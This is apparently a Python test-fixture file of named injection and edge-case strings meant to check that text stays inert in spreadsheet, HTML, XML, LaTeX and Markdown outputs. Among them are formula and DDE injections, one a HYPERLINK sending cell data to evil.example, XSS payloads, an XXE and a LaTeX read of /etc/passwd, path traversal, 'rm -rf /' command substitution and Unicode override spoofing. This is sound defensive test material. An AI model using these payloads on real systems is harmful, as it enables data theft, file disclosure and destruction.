"""Texts that try to be something else: in labels, names, notes and titles they must stay text in every output."""

STRINGS = (
    ("formula", "=1+1"),
    ("formula_call", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("formula_plus", "+1+cmd|' /C calc'!A0"),
    ("formula_minus", "-2+3+cmd|' /C calc'!A0"),
    ("formula_at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("dde", "=cmd|'/C calc.exe'!A1"),
    ("array_formula", "{=SUM(A1:A9)}"),
    ("formula_after_tab", "\t=1+1"),
    ("formula_after_return", "\r=1+1"),
    ("formula_full_width", "\uff1d1+1"),
    ("apostrophe_first", "'=1+1"),
    ("number", "007"),
    ("number_with_exponent", "1E5"),
    ("missing_word", "NA"),
    ("truth_word", "TRUE"),
    ("script", "</script><script>alert(1)</script>"),
    ("event", "\"><img src=x onerror='alert(1)'>"),
    ("style", "</style></svg><svg/onload=alert(1)>"),
    ("cdata_end", "]]> and <![CDATA[ and <!-- and --> and <?xml"),
    ("entity", '&lt;b&gt; &amp; &#x3D;1 &unknown; <!ENTITY x SYSTEM "file:///etc/passwd">'),
    ("excel_runs", "<r><t>one</t></r><r><b/><t>two</t></r>"),
    ("excel_escape", "_x0041_ and _x000D_ and _x0000_"),
    (
        "template",
        "{{ 7*7 }} {% raw %} {0} {name} {",
    ),
    ("percent", "%s %(name)s %n 100 %"),
    ("latex", r"\input{/etc/passwd} $\sum_i^n$ # _ ^ ~ & \\ % {"),
    ("markdown", "[click](javascript:alert(1)) **bold** `code` | cell | <http://evil.example>"),
    ("address", "http://evil.example/a?b=c&d"),
    ("address_of_script", "javascript:alert(document.cookie)"),
    ("address_of_file", r"external:\\evil.example\share\x.xlsx#A1"),
    ("address_of_sheet", "internal:'Cover'!A1"),
    ("path", "../../../etc/passwd\\..\\..\\windows"),
    ("shell", "$(touch x) `touch y`; rm -rf / | cat && true"),
    ("quotes", "\"a\" 'b' `c` \u201cd\u201d, e; f\tg"),
    ("lines", "one\ntwo\r\nthree\rfour\x85five\u2028six\u2029seven"),
    ("nothing_but_blanks", " \t\n\u00a0\u2003 "),
    ("control_characters", "bell\x07 null\x00 escape\x1b[31m delete\x7f c1\x9f end"),
    ("no_characters", "\ufdd0 \ufffe \uffff \U0001fffe"),
    ("half_signs", "high \ud800 low \udc00 swapped \udfff\ud800"),
    ("byte_order_mark", "\ufeffafter the mark\ufeff"),
    ("override", "\u202egpj.exe\u202c and \u202eopen to the end"),
    ("isolates", "\u2067\u2067\u2066unclosed \u200f\u200e\u061c"),
    ("unseen", "zero\u200bwidth\u200c\u200d\u2060 soft\u00adhyphen \U000e0041"),
    ("combining", "Z" + "\u0351\u0346\u0310\u0300" * 60),
    ("emoji", "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e6\U0001f1f2 \U0001f44d\U0001f3fd"),
    (
        "scripts",
        "\u0540\u0561\u0575 \u0420\u0443\u0441 \u0639\u0631\u0628\u064a \u05e2\u05d1 \u0e44\u0e17\u0e22 \u4e2d\u6587",
    ),
    ("long", "a long label goes on " * 476 + "end."),
    ("long_word", "x" * 10_000),
    ("longer_than_a_cell", "\U0001f30d" * 20_000),
)
"""Each with its name. Some are longer than what a cell of Excel holds."""

TEXTS = tuple(text for _, text in STRINGS)
"""The texts alone."""
NAMES = tuple(name for name, _ in STRINGS)
"""Their names, for the ids of tests."""
